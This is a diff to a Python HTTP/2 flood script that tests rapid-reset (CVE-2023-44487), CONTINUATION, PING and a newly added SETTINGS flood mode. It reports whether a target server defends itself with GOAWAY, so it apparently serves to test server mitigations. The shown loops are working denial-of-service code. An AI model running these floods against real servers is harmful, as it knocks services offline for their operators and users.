@@ -5,6 +5,7 @@ usage: h2_flood.py MODE HOST PORT [--tls]
 MODE: rapid-reset   open streams and reset each at once (CVE-2023-44487)
       continuation  one HEADERS without END_HEADERS, then endless CONTINUATION
       ping          a flood of PINGs without reading the answers
+      settings      a flood of (empty) SETTINGS frames
 Prints `GOAWAY <code>` when the server sent GOAWAY, `CLOSED` when it closed
 without one, `SURVIVED` when it neither did; exit status 0 only for GOAWAY.
 """
@@ -16,7 +17,7 @@ import time
 import h2.config
 import h2.connection
 import h2.events
-from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame
+from hyperframe.frame import ContinuationFrame, HeadersFrame, PingFrame, SettingsFrame
 
 
 def main():
@@ -58,6 +59,9 @@ def main():
                 p = PingFrame(0)
                 p.opaque_data = i.to_bytes(8, "big")
                 sock.sendall(p.serialize())
+        elif mode == "settings":
+            for i in range(200000):
+                sock.sendall(SettingsFrame(0).serialize())
         else:
             sys.exit("unknown mode " + mode)
     except (BrokenPipeError, ConnectionResetError, ssl.SSLError, OSError):
